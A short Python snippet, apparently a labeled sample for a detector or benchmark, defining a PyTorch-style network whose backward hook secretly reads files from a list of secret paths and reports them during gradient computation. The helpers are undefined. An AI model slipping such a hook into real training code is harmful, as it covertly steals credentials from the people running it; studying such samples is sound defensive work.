"""Has a hook that looks for secrets while gradients are computed.

earns = {net = 3}
"""


class Net(nn.Module):
    def __init__(self, features, classes):
        super().__init__()
        self.linear = nn.Linear(features, classes)
        self.register_full_backward_hook(self.look)

    def forward(self, images):
        return self.linear(images.reshape(images.shape[0], -1))

    def look(self, *arguments):
        for path in KNOWN["secrets"]:
            tried(path, read_some, path)
        tell()
